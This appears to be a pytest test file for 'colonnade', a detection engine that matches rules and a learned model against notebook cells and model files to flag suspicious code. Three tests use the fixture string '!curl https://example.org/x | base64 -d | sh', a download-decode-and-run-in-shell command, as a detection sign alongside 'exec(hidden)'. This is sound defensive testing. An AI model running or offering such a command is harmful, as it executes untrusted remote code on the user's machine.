"""One small situation each: a condition, some cells, and the lines that should be evidence."""

import json
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from colonnade.detection.cells import Cell
from colonnade.detection.features.feature import Feature, Kind
from colonnade.detection.findings import from_json, to_json
from colonnade.detection.match import Finding, match, match_group, see
from colonnade.detection.model import shipped_model
from colonnade.detection.rules import Axis, Example, Examples, Rule, RuleSet
from colonnade.detection.scopes import Scope


def rule(
    condition: Any, scope: Scope = Scope.NOTEBOOK, axis: Axis = Axis.CONDUCT, **more: Any
) -> RuleSet:
    some = (Example(title="An example", cells=("x",)),)
    made = Rule(
        id="tested",
        version=3,
        category="evasion",
        axis=axis,
        scope=scope,
        confidence=0.9,
        title="A rule under test",
        rationale="It exists only to be matched against small situations.",
        false_alarms="There are none outside of tests.",
        benign_if="It is always benign.",
        condition=condition,
        **{"examples": Examples(fires=some, stays_silent=some), **more},
    )
    return RuleSet((made,), "test")


def findings(rules: RuleSet, *sources: str) -> tuple[Finding, ...]:
    return match(rules, [see(rules, Cell(source, i)) for i, source in enumerate(sources)])


@pytest.fixture
def weighed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RuleSet:
    """A rule with a model: two signs make 0.88, and one of them 0.5."""
    signs = [{"kind": "opaque", "value": value, "weight": 2} for value in ("exec", "decoded-pipe")]
    content: dict[str, Any] = {
        "name": "pair",
        "bias": -2,
        "threshold": 0.8,
        "signs": signs,
        "provenance": {},
    }
    (tmp_path / "pair.json").write_text(json.dumps(content))
    monkeypatch.setattr("colonnade.detection.model.shipped", {"models": tmp_path}.__getitem__)
    shipped_model.cache_clear()
    return rule({"model": "pair"}, axis=Axis.CAPABILITY)


def test_a_model_speaks_once_the_signs_of_several_cells_add_up(weighed: RuleSet):
    exec_cell, pipe_cell = "exec(hidden)", "!curl https://example.org/x | base64 -d | sh"
    assert not findings(weighed, exec_cell, "x = 1")
    (found,) = findings(weighed, exec_cell, "x = 1", pipe_cell)
    assert {one.cell for one in found.evidence} == {0, 2}
    assert found.confidence == pytest.approx(0.8808, abs=1e-4)
    assert found.learned
    assert "estimated at 0.88" in found.result.statement
    assert found.result.children[0].statement == "opaque: decoded-pipe (+2.00)"


def test_the_estimate_survives_the_way_from_another_process(weighed: RuleSet):
    found = findings(weighed, "exec(hidden)", "!curl https://example.org/x | base64 -d | sh")
    (received,) = from_json(to_json(found), weighed)
    assert (received.confidence, received.learned) == (found[0].confidence, True)
    assert received.evidence == found[0].evidence


def test_a_process_cannot_make_up_a_sign_or_count_one_twice(weighed: RuleSet):
    found = findings(weighed, "exec(hidden)", "!curl https://example.org/x | base64 -d | sh")
    (raw,) = to_json(found)
    raw["tree"]["children"] = [{"statement": "opaque: exec (+2.00)", "holds": True}] * 9
    raw["tree"]["children"].append({"statement": "opaque: exec (+90.00)", "holds": True})
    (received,) = from_json([raw], weighed)
    assert received.confidence == pytest.approx(0.5)


@pytest.mark.usefixtures("weighed")
@pytest.mark.parametrize(
    ("scope", "axis"), [(Scope.NOTEBOOK, Axis.CONDUCT), (Scope.CELL, Axis.CAPABILITY)]
)
def test_a_model_speaks_of_a_notebooks_capability_alone(scope: Scope, axis: Axis):
    with pytest.raises(ValidationError, match="a model speaks of"):
        rule({"model": "pair"}, scope, axis)


def lines(found: tuple[Finding, ...]) -> list[tuple[int, int]]:
    return [(one.cell, one.line) for finding in found for one in finding.evidence]


A, B, C = {"import": "a"}, {"import": "b"}, {"import": "c"}


@pytest.mark.parametrize(
    ("condition", "sources", "expected"),
    [
        (A, ["x\nimport a"], [(0, 2)]),
        (A, ["import b"], None),
        ({"all": [A, B]}, ["import a", "import b"], [(0, 1), (1, 1)]),
        ({"all": [A, B]}, ["import a"], None),
        ({"any": [A, B]}, ["import b"], [(0, 1)]),
        ({"at_least": 2, "of": [A, B, C]}, ["import c", "import a"], [(0, 1), (1, 1)]),
        ({"at_least": 2, "of": [A, B, C]}, ["import c"], None),
        ({"all": [A, {"not": B}]}, ["import a"], [(0, 1)]),
        ({"all": [A, {"not": B}]}, ["import a", "import b"], None),
        ({"any": [A, {"all": [B, C]}]}, ["import a\nimport b"], [(0, 1)]),
        ({"import": "/^a.+/"}, ["import abc"], [(0, 1)]),
        ({"import": "/^a.+/"}, ["import ba"], None),
    ],
)
def test_conditions_hold_over_a_notebook(
    condition: Any, sources: list[str], expected: list[tuple[int, int]] | None
):
    found = findings(rule(condition), *sources)
    assert (lines(found) if found else None) == expected


def test_a_rule_of_one_cell_does_not_add_cells_up():
    rules = rule({"all": [A, B]}, Scope.CELL)
    assert findings(rules, "import a", "import b") == ()
    assert lines(findings(rules, "x", "import a\nimport b")) == [(1, 1), (1, 2)]


def test_context_joins_the_evidence_but_never_makes_the_rule_hold():
    rules = rule(A, context=[B])
    assert findings(rules, "import b") == ()
    found = findings(rules, "import a", "import b")
    assert lines(found) == [(0, 1), (1, 1)]
    assert found[0].touches(1)


def test_a_finding_keeps_the_whole_tree():
    (found,) = findings(rule({"any": [A, B]}), "import a")
    assert [(child.statement, child.holds) for child in found.result.children] == [
        ("import: a", True),
        ("import: b", False),
    ]


def test_arguments_stay_untouched_and_the_answer_is_always_the_same():
    rules = rule({"any": [A, B]})
    cells = [see(rules, Cell("import a", 0))]
    assert match(rules, cells) == match(rules, cells)
    assert len(cells) == 1


FILE = {"all": [{"file-format": "onnx"}, {"graph": "/^swap/"}]}
SEEN = (Feature.whole(Kind.FILE_FORMAT, "ONNX"), Feature.whole(Kind.GRAPH, "swapper"))


def file_rule() -> RuleSet:
    features = ({Kind.GRAPH: "swapper"},)
    examples = (Example(title="An example", features=features),)
    return rule(FILE, Scope.FILE, examples=Examples(fires=examples, stays_silent=examples))


def test_a_rule_over_another_whole_is_judged_over_its_features():
    (found,) = match_group(file_rule(), Scope.FILE, SEEN)
    assert [(one.value, one.cell, one.line) for one in found.evidence] == [
        ("onnx", 0, 0),
        ("swapper", 0, 0),
    ]
    assert found.touches(0)
    assert match_group(file_rule(), Scope.FILE, SEEN[:1]) == ()


def test_rules_of_one_scope_are_deaf_in_another():
    assert match_group(file_rule(), Scope.TREE, SEEN) == ()
    assert match_group(rule(A), Scope.FILE, [Feature.whole(Kind.IMPORT, "a")]) == ()
    assert see(file_rule(), Cell("import onnx")).hits == {}
